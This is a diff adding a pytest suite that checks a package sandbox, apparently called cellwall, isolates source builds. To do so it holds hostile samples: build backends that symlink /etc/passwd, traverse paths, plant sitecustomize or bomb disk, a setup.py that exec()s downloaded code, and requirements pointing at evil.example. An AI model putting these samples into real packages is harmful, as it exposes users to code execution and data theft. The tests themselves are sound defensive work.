@@ -1,0 +1,393 @@
+"""Builds from source of hostile packages: no network, no secrets, nothing but one judged wheel."""
+
+from __future__ import annotations
+
+import json
+import os
+import select
+import signal
+import subprocess
+import sys
+from dataclasses import replace
+from datetime import UTC, datetime, timedelta
+from functools import partial
+from pathlib import Path
+
+import anyio
+import pytest
+
+import cellwall
+from cellwall.core.approvals import AnswerKind
+from cellwall.core.packages import parse_install
+from cellwall.core.types import Action
+from cellwall.runtime.approvals import CallbackApprover
+from cellwall.runtime.wiring import open_app, principal
+from conftest import audit_records
+from registries import serve_registries, write_registry_config
+from source_archives import BACKEND, add_backend, add_source, project_files
+from unit.runtime.questions_for_tests import said
+
+pytestmark = [pytest.mark.slow, pytest.mark.requirement("PKG-3")]
+
+ONLY_COLD = pytest.mark.only_on("cold", reason="the cells are those of every run")
+CANARY = "/canary"
+ALLOWED = "dangerously_build_sources = true"
+# What a build sees and reaches, written into the module that it builds.
+WITNESS = """
+python3 - <<'EOF'
+import json, os, socket, urllib.request
+
+seen = {}
+
+def attempt(name, call):
+    try:
+        call()
+        seen[name] = "reached"
+    except BaseException as error:
+        seen[name] = type(error).__name__
+
+PORT = int("{port}")
+attempt("host", lambda: socket.create_connection(("127.0.0.1", PORT), 10).close())
+attempt("registry", lambda: urllib.request.urlopen("https://pypi.org/simple/zebra-atlas/").read())
+attempt("canary", lambda: urllib.request.urlopen("{canary}", timeout=10).read())
+attempt("program", lambda: open("{program}", "w").close())
+attempt("outside", lambda: open("{outside}", "w").close())
+seen["interfaces"] = [name for _, name in socket.if_nameindex()]
+seen["environment"] = dict(os.environ)
+seen["files"] = sorted(os.listdir("/workspace")) if os.path.isdir("/workspace") else []
+if os.path.exists("wheel.json"):
+    project = json.load(open("wheel.json"))
+    project["files"]["witness_zebra.py"] = "SEEN = " + repr(json.dumps(seen))
+    json.dump(project, open("wheel.json", "w"))
+print(json.dumps(seen))
+EOF
+"""
+# In a backend that is a file of the archive: the attack, and what the refusal says.
+HOSTILE = {
+    "other-name": ("name = 'zebra_other-1.0-py3-none-any.whl'", "another name or version"),
+    "other-version": ("name = '{stem}-2.0-py3-none-any.whl'", "another name or version"),
+    "two-wheels": ("open(wheel_directory + '/x.whl', 'w').close()", "exactly one wheel"),
+    "no-wheel": ("return 'x.whl'", "exactly one wheel"),
+    "link": ("os.symlink('/etc/passwd', wheel_directory + '/' + name); return name", ""),
+    "fifo": ("os.mkfifo(wheel_directory + '/' + name); return name", ""),
+    "folder": ("os.mkdir(wheel_directory + '/' + name); return name", ""),
+    "bomb": ("files['zeros.txt'] = '0' * (64 << 20)", ""),
+    "large": ("os.truncate(os.open(name, os.O_CREAT | os.O_RDWR), 600 << 20)", "could not be"),
+    "broken": ("raise SystemExit(1)", "could not be"),
+    "endless": ("raise SystemExit(75)", "other requirements each time"),
+    "start-up": ("files['sitecustomize.py'] = 'x = 1'", "sitecustomize"),
+    "traversal": ("files['../../outside.py'] = 'x = 1'", ""),
+    "hanging": ("import time; time.sleep(10000)", "the limit wall"),
+    "harmless": ("pass", ""),
+}
+BACKEND_IN_ARCHIVE = """
+import os, zipfile
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    name, stem = "{stem}-1.0-py3-none-any.whl", "{stem}-1.0.dist-info"
+    files = {{"{stem}.py": ""}}
+    files[stem + "/METADATA"] = "Metadata-Version: 2.1\\nName: {name}\\nVersion: 1.0\\n"
+    files[stem + "/WHEEL"] = "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"
+    {attack}
+    files[stem + "/RECORD"] = "".join(path + ",,\\n" for path in [*files, stem + "/RECORD"])
+    with zipfile.ZipFile(wheel_directory + "/" + name, "w", zipfile.ZIP_DEFLATED) as archive:
+        for path, text in files.items():
+            archive.writestr(path, text)
+    return name
+"""
+OWN_BACKEND = '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n'
+# An archive without pyproject.toml; its setup.py is executed.
+SETUP_PHONES_HOME = """
+import urllib.request
+from setuptools import setup
+try:
+    urllib.request.urlopen("{canary}", timeout=20)
+    how = "reached"
+except OSError as error:
+    how = type(error).__name__
+setup(name="phone-zebra", version="1.0", files={{"phone_zebra.py": "HOW = " + repr(how)}})
+"""
+SETUP_RUNS_A_DOWNLOAD = """
+import urllib.request
+exec(urllib.request.urlopen("{canary}").read())
+from setuptools import setup
+setup(name="dropper-zebra", version="1.0", files={{}})
+"""
+
+
+def witness(served, outside="/nowhere/x", program="/usr/bin/planted"):
+    texts = {"port": served.base.rpartition(":")[2], "canary": served.base + CANARY}
+    script = WITNESS
+    for name, text in {**texts, "outside": outside, "program": program}.items():
+        script = script.replace(f"{{{name}}}", str(text))
+    return script
+
+
+@pytest.fixture(scope="module")
+def outside(tmp_path_factory):
+    return tmp_path_factory.mktemp("outside") / "ran"
+
+
+@pytest.fixture(scope="module")
+def registries(outside):
+    with serve_registries() as served:
+        add_backend(served)
+        served.add_wheel("zebra-atlas", "1.0")
+        add_source(served, "witness-zebra", configure=witness(served, outside))
+        add_source(served, "deep-zebra", needs=["leaf-zebra"])
+        add_source(served, "leaf-zebra")
+        add_source(served, "curious-zebra", needs=["reqeusts"])
+        add_source(served, "reqeusts")
+        asking = {"requires": ["zebra-atlas>=1"], "configure": "python -c 'import zebra_atlas'"}
+        add_source(served, "asking-zebra", **asking)
+        add_source(served, "url-zebra", requires=["zebra-atlas @ https://evil.example/x.whl"])
+        add_source(served, "option-zebra", requires=["--index-url=https://evil.example"])
+        lacking = project_files("lacking-zebra")
+        lacking["pyproject.toml"] = f'[build-system]\nrequires = ["{BACKEND}", "missing-zebra"]\n'
+        add_source(served, "lacking-zebra", files=lacking)
+        for kind, (attack, _) in HOSTILE.items():
+            name, stem = f"{kind}-zebra", f"{kind.replace('-', '_')}_zebra"
+            attack = attack.replace("{stem}", stem)
+            code = BACKEND_IN_ARCHIVE.format(name=name, stem=stem, attack=attack)
+            add_source(served, name, files={"pyproject.toml": OWN_BACKEND, "own.py": code})
+        for name, code in (("phone", SETUP_PHONES_HOME), ("dropper", SETUP_RUNS_A_DOWNLOAD)):
+            setup = code.format(canary=served.base + CANARY)
+            add_source(served, f"{name}-zebra", files={"setup.py": setup})
+        yield served
+
+
+@pytest.fixture
+def configure(tmp_path, registries):
+    def write(*lines):
+        lines = 'without_feed = "allow"', *lines
+        return write_registry_config(tmp_path / "config.toml", registries.base, *lines)
+
+    return write
+
+
+@pytest.fixture
+def config(configure):
+    return configure(ALLOWED)
+
+
+def build(config, *names, answer=None):
+    """Build what these packages need, as a template or a lock does."""
+    ask = None if answer is None else CallbackApprover(answer)
+    app = open_app(config=config)
+    try:
+        operation = replace(parse_install("pypi", names), only_build=True)
+        limits = replace(app.limits, wall_s=120.0, cpu_s=120.0)
+        action = Action(principal=principal("cli"), operation=operation, limits=limits)
+        return anyio.run(partial(app.runtime.perform, action, ask=ask))
+    finally:
+        app.close()
+
+
+def built(state_home):
+    folder = Path(state_home, "packages", "built")
+    return sorted(each.name[65:] for each in folder.iterdir()) if folder.is_dir() else []
+
+
+def bodies(event):
+    return [r["body"] for r in audit_records() if r["body"].get("event") == event]
+
+
+def texts(outcome):
+    error = [] if outcome.error is None else [outcome.error.message]
+    return " ".join([*error, *(each.message for each in outcome.findings)])
+
+
+def test_a_build_has_no_network_no_secret_and_no_file_of_the_session(
+    config, registries, outside, monkeypatch, tmp_path
+):
+    monkeypatch.setenv("HOST_TOKEN", "canary-of-the-host")
+    token = {"TOKEN": "canary-of-the-session"}
+    with cellwall.Sandbox.create(config=config, timeout=120, envs=token) as sbx:
+        sbx.files.write("private.txt", "canary of the workspace")
+        done = sbx.packages.install("witness-zebra").raise_for_status()
+        assert [each.name for each in done.installed] == ["witness-zebra"]
+        seen = json.loads(sbx.run_code("import witness_zebra; witness_zebra.SEEN").value)
+        lock = sbx.files.read("pylock.toml")
+    reached = {name: how for name, how in seen.items() if isinstance(how, str)}
+    assert "reached" not in reached.values(), reached
+    assert seen["interfaces"] == ["lo"]
+    assert "canary" not in json.dumps(seen["environment"])
+    assert not [name for name in seen["environment"] if "proxy" in name.lower()]
+    assert {"source", "environment"} <= set(seen["files"])
+    assert "private.txt" not in seen["files"]
+    assert not outside.exists()
+    assert CANARY not in [path for _, path in registries.seen]
+    # The wheel is tied to its source, in the lock and in the record.
+    (source,) = (each["hashes"]["sha256"] for each in registries.pypi["witness-zebra"]["files"])
+    body = bodies("package-built")[-1]
+    assert (body["source_sha256"], body["package"]) == (source, "pkg:pypi/witness-zebra@1.0")
+    assert f'sha256 = "{source}"' in lock
+    assert f'sha256 = "{body["wheel_sha256"]}"' in lock
+    needed = [each["package"] for each in body["build_requirements"]]
+    assert needed == ["pkg:pypi/tiny-backend@1.0"]
+    # The controls: the same script reaches the registry from a cell that has it, and the canary
+    # and the file from the host.
+    with cellwall.Sandbox.create(config=config, timeout=120, registries=["pypi"]) as sbx:
+        sbx.files.write("configure", witness(registries))
+        assert json.loads(sbx.commands.run("sh configure").stdout)["registry"] == "reached"
+    script = witness(registries, tmp_path / "ran", tmp_path / "program")
+    ran = subprocess.run(["sh", "-c", script], capture_output=True, check=True, cwd=tmp_path)
+    seen = json.loads(ran.stdout)
+    assert {seen[name] for name in ("host", "outside", "program")} == {"reached"}
+    assert "canary-of-the-host" in json.dumps(seen["environment"])
+    assert CANARY in [path for _, path in registries.seen]
+    registries.seen.clear()
+
+
+@ONLY_COLD
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_a_build_that_is_an_attack_leaves_no_wheel(kind, configure, registries, state_home):
+    timeout_s = 5 if kind == "hanging" else 120
+    outcome = build(configure(ALLOWED, f"build_timeout_s = {timeout_s}"), f"{kind}-zebra")
+    assert f"/packages/{kind.replace('-', '_')}_zebra-1.0.tar.gz" in [p for _, p in registries.seen]
+    if kind == "harmless":  # the control
+        assert outcome.status == "ok", outcome
+        assert built(state_home) == ["harmless_zebra-1.0-py3-none-any.whl.json"]
+        return
+    assert outcome.status != "ok", outcome
+    assert HOSTILE[kind][1] in texts(outcome)
+    assert (built(state_home), bodies("package-built")) == ([], [])
+
+
+@ONLY_COLD
+def test_requirements_of_a_build_come_from_the_judged_index(config, state_home):
+    for name, text in (
+        ("url-zebra", "by its URL"),
+        ("option-zebra", "cannot be read"),
+        ("lacking-zebra", "missing-zebra"),
+    ):
+        outcome = build(config, name)
+        assert outcome.status != "ok", outcome
+        assert text in texts(outcome), (name, outcome)
+    assert built(state_home) == []
+    # The controls: a requirement that only the backend names, and a tree of sources.
+    assert build(config, "asking-zebra").status == "ok"
+    assert build(config, "deep-zebra").status == "ok"
+    wheels = [f"{name}_zebra-1.0-py3-none-any.whl.json" for name in ("asking", "deep", "leaf")]
+    assert built(state_home) == wheels
+
+
+@ONLY_COLD
+def test_a_setup_py_that_phones_home_cannot_and_one_that_runs_a_download_is_refused(
+    config, registries, state_home
+):
+    outcome = build(config, "dropper-zebra")
+    assert (outcome.status, outcome.error.code) == ("denied", "CW-PACKAGE-REFUSED"), outcome
+    assert built(state_home) == []
+    with cellwall.Sandbox.create(config=config, timeout=120) as sbx:
+        sbx.packages.install("phone-zebra").raise_for_status()
+        assert sbx.run_code("import phone_zebra; phone_zebra.HOW").value == "URLError"
+    assert CANARY not in [path for _, path in registries.seen]
+
+
+@ONLY_COLD
+@pytest.mark.requirement("PKG-2")
+def test_a_rule_allows_the_build_of_its_package_alone(configure, state_home):
+    config, day = configure(), datetime.now(UTC).date() + timedelta(days=2)
+    own = Path(os.environ["XDG_CONFIG_HOME"], "cellwall")
+    own.mkdir(parents=True)
+    (own / "policy.toml").write_text(
+        '[[rule]]\nverdict = "allow"\nrule = "Install(pypi:deep-zebra)"\nlifts = ["source"]\n'
+        f"until = {day}\n"
+    )
+    (own / "policy.toml").chmod(0o600)
+    outcome = build(config, "leaf-zebra")
+    assert "leaf-zebra 1.0 exists as source only" in texts(outcome)
+    assert built(state_home) == []
+    outcome = build(config, "deep-zebra")
+    assert outcome.status != "ok"  # its dependency may not be built
+    assert built(state_home) == ["deep_zebra-1.0-py3-none-any.whl.json"]
+    assert {each["rule"] for each in bodies("package-verdict")} == {"Install(pypi:deep-zebra)"}
+
+
+@ONLY_COLD
+def test_package_managers_in_a_sandbox_get_the_wheel_and_never_the_source(config):
+    pip = "pip install --disable-pip-version-check --no-input -q --target /tmp/site leaf-zebra"
+    with cellwall.Sandbox.create(config=config, timeout=120, registries=["pypi"]) as sbx:
+        before = sbx.commands.run(f"{pip} --no-binary :all:")
+        assert before.exit_code != 0
+        assert "the tool install_package build it" in texts(before.outcome)
+        assert build(config, "leaf-zebra").status == "ok"
+        assert sbx.commands.run(pip).exit_code == 0
+    # A policy that no longer allows the build hides the wheel again.
+    file = Path(config)
+    file.write_text(file.read_text().replace("sources = true", "sources = false"))
+    file = file.rename(file.with_name("later.toml"))
+    with cellwall.Sandbox.create(config=str(file), timeout=120, registries=["pypi"]) as sbx:
+        after = sbx.commands.run(pip)
+        assert after.exit_code != 0
+        assert "exists as source only" in texts(after.outcome)
+
+
+@ONLY_COLD
+@pytest.mark.requirement("PKG-2", "POL-8")
+def test_a_person_is_asked_before_a_source_is_built(configure, tmp_path, state_home):
+    asked = []
+
+    def answer(question, kind):
+        asked.append(question.text)
+        return said(kind)
+
+    config = configure(ALLOWED)
+    Path(config).write_text(Path(config).read_text() + '[approvals]\nchannels = ["callback"]\n')
+    outcome = build(config, "curious-zebra", answer=partial(answer, kind=AnswerKind.DENY))
+    assert outcome.status == "denied"
+    assert "a person was asked and did not allow it" in texts(outcome)
+    assert asked == ["pypi:reqeusts"]
+    assert built(state_home) == ["curious_zebra-1.0-py3-none-any.whl.json"]
+    outcome = build(config, "curious-zebra", answer=partial(answer, kind=AnswerKind.ONCE))
+    assert outcome.status == "ok", outcome
+    assert asked == ["pypi:reqeusts"] * 2  # one question for the build and for the resolver
+    assert "reqeusts-1.0-py3-none-any.whl.json" in built(state_home)
+
+
+_INSTALL = """
+import sys, cellwall
+_, config, project, name = sys.argv
+show = lambda text: print(text, end="", flush=True)
+with cellwall.Sandbox.create(config=config, workspace=project + ":rw", timeout=300) as sbx:
+    done = sbx.packages.install(name, on_stdout=show, on_stderr=show)
+    sys.exit(not done.installed)
+"""
+
+
+@ONLY_COLD
+def test_a_build_that_is_killed_leaves_nothing_and_the_next_one_works(
+    config, registries, state_home, tmp_path
+):
+    project, sleep = tmp_path / "project", f"98{os.getpid()}"
+    project.mkdir()
+    add_source(registries, "sleeping-zebra", configure=f"echo it builds; exec sleep {sleep}")
+    words = [sys.executable, "-c", _INSTALL, config, str(project)]
+    with subprocess.Popen([*words, "sleeping-zebra"], stdout=subprocess.PIPE, text=True) as process:
+        try:
+            assert any("it builds" in line for line in process.stdout)
+            sleeping = descriptors_of("sleep", sleep)
+            assert sleeping
+        finally:
+            process.send_signal(signal.SIGKILL)
+    for each in sleeping:
+        assert select.select([each], [], [], 60)[0], "the cell outlives the process"
+        os.close(each)
+    assert built(state_home) == []
+    subprocess.run([*words, "leaf-zebra"], check=True, timeout=300)
+    assert built(state_home) == ["leaf_zebra-1.0-py3-none-any.whl.json"]
+    assert {each.name for each in project.iterdir()} == {".cellwall-packages", "pylock.toml"}
+    assert os.listdir(Path(state_home, "workspaces")) == []
+
+
+def descriptors_of(*command):
+    """Of the processes with this command line."""
+    wanted, found = "".join(f"{word}\0" for word in command).encode(), []
+    for each in Path("/proc").glob("[0-9]*"):
+        try:
+            if (each / "cmdline").read_bytes() == wanted:
+                found.append(os.pidfd_open(int(each.name)))
+        except OSError:  # it has ended
+            continue
+    return found
